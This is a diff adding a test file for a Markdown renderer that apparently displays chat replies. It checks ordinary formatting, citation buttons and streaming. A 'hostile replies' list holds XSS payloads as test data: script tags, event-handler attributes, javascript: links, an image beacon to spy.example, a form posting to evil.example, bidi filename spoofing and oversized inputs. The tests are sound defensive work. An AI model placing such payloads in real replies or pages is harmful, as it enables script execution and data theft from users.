@@ -1,0 +1,102 @@
+import { cleanup, render } from '@testing-library/preact';
+import { afterEach, describe, expect, test, vi } from 'vitest';
+import { Markdown } from './markdown.tsx';
+import type { RenderContext } from './render.tsx';
+
+afterEach(cleanup);
+
+const context: RenderContext = {
+  citations: 0,
+  isPending: false,
+  openCitation: () => {},
+  labels: { copy: 'Copy', copied: 'Copied', code: 'Code', table: 'Table', source: (n) => `Source ${n}` },
+};
+
+function draw(source: string, given: Partial<RenderContext> = {}, isStreaming = false) {
+  return render(<Markdown source={source} isStreaming={isStreaming} context={{ ...context, ...given }} />).container;
+}
+
+describe('hostile replies', () => {
+  const hostile = [
+    '<script>window.hacked=1</script>',
+    '<img src=x onerror="window.hacked=1">',
+    'text <svg/onload=window.hacked=1> text',
+    '<iframe srcdoc="<script>1</script>"></iframe>',
+    '[link](javascript:alert(1))',
+    '[link](  JaVaScRiPt:alert(1))',
+    '[link](&#106;avascript:alert(1))',
+    '[link](data:text/html,<script>1</script>)',
+    '[link](vbscript:x) <a href="javascript:1">x</a>',
+    '![x](https://spy.example/?q=secret)',
+    '<style>*{display:none}</style>',
+    '<form action=https://evil.example><input name=q></form>',
+    '[a]: javascript:alert(1)\n\n[a]',
+    '| <img src=x onerror=1> |\n| --- |\n| <b onclick=1>x</b> |',
+  ];
+  test.each(hostile)('%s makes no element and no address of its own', (source) => {
+    const container = draw(source);
+    expect(
+      container.querySelector('script,img,svg[onload],iframe,style,form,input,object,embed,base,meta,b'),
+    ).toBeNull();
+    for (const element of container.querySelectorAll('*')) {
+      for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^src|^style$/);
+    }
+    for (const link of container.querySelectorAll('a')) {
+      expect(link.protocol).toMatch(/^https?:$/);
+      expect(link.rel).toContain('noopener');
+      expect(link.target).toBe('_blank');
+    }
+  });
+
+  test('controls that turn text around are dropped', () => {
+    expect(draw('invoice\u202Efdp.exe `a\u2066b`').textContent).toBe('invoicefdp.exe ab');
+  });
+
+  test('an endless text stays a text', () => {
+    const container = draw('# '.repeat(60_000));
+    expect(container.querySelectorAll('*').length).toBeLessThan(3);
+  });
+
+  test('a table of thousands of rows is cut', () => {
+    const container = draw(`| a |\n| --- |\n${'| b |\n'.repeat(3_000)}`);
+    expect(container.querySelectorAll('tr').length).toBeLessThan(600);
+  });
+});
+
+test('draws what replies are made of', () => {
+  const container = draw(
+    '# Title\n\nSome **bold**, *soft*, `code` and [link](https://x.example/a?b=1&c=2).\n\n- one\n  - two\n\n3. three\n\n> said\n\n| A | B |\n| - | -: |\n| 1 | 2<br>3 |\n\n```ts\nconst a = "<b>";\n```\n\nTom &amp; Jerry &lt;3\n\n- [x] done',
+  );
+  expect(container.querySelector('[role=heading]')?.textContent).toBe('Title');
+  expect(container.querySelector('strong')?.textContent).toBe('bold');
+  expect(container.querySelector('a')?.href).toBe('https://x.example/a?b=1&c=2');
+  expect(container.querySelector('ul ul li')?.textContent).toBe('two');
+  expect(container.querySelector('ol')?.start).toBe(3);
+  expect(container.querySelector('td br')).not.toBeNull();
+  expect(container.querySelector('pre')?.textContent).toBe('const a = "<b>";');
+  expect(container.textContent).toContain('Tom & Jerry <3');
+  expect(container.querySelector('.task')?.textContent).toContain('done');
+});
+
+test('marks of sources become buttons that open them', () => {
+  const openCitation = vi.fn<(index: number) => void>();
+  const container = draw('As said [1], and again [2]. Not [7].', { citations: 2, openCitation });
+  const marks = container.querySelectorAll('button');
+  expect(marks).toHaveLength(2);
+  marks[1]?.click();
+  expect(openCitation).toHaveBeenCalledWith(1);
+  expect(container.textContent).toContain('Not [7].');
+});
+
+test('comes to the same whether it streamed in or was there at once', () => {
+  const source =
+    '# A\n\nfirst *one*\n\n- a\n- b\n\n  c\n\n| x | y |\n| - | - |\n| 1 | 2 |\n\n```js\nlet a;\n\nlet b;\n```\n\nend [l](https://x.example)';
+  const whole = draw(source).innerHTML;
+  const { container, rerender } = render(<Markdown source="" isStreaming context={context} />);
+  for (let length = 0; length <= source.length; length += 1) {
+    rerender(<Markdown source={source.slice(0, length)} isStreaming context={context} />);
+  }
+  expect(container.innerHTML).toBe(whole);
+  rerender(<Markdown source={source} isStreaming={false} context={context} />);
+  expect(container.innerHTML).toBe(whole);
+});
